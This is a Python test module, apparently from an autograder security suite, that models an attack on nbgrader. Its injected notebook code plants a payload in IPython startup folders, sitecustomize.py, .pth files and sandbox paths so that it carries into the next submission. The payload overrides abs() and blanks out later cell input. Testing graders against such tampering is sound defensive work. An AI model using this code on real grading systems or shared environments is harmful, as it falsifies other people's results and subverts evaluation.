# attack: files that Python and IPython run at start-up are left for the next submission
# bites: plain nbgrader
from tests.attacks import before

NEXT = True

POISON = """
import builtins
builtins.abs = lambda _: 0.0
try:
    get_ipython().input_transformers_post.append(lambda _: ["pass"])
except NameError:
    pass
"""


def tamper(notebook):
    before(
        notebook,
        "",
        f"""
import os, site, sys

profile = getattr(get_ipython(), "profile_dir", None)
startup = "/tmp/ipython/profile_default/startup"
folders = {{"00-poison.py": getattr(profile, "startup_dir", startup)}}
home = os.environ.get("HOME", "/")
inside = home.startswith(("/notebook", os.environ.get("PLAIN_COURSE", "/notebook")))
for name, places in {{"sitecustomize.py": sys.path + site.getsitepackages(),
                     "poison.pth": site.getsitepackages(),
                     "zygote.py": ["/packages/sandbox"], "check.py": ["/packages/scaffold"]}}.items():
    for place in places if not os.environ.get("PLAIN_COURSE") else []:
        folders[f"{{place}}/{{name}}"] = place
for name, folder in folders.items():
    if inside:
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, os.path.basename(name)), "a").write({POISON!r})
        except OSError:
            pass
""",
    )
    before(notebook, "loss-check", POISON)


COSTS_HONEST = "its check is rewritten as well"
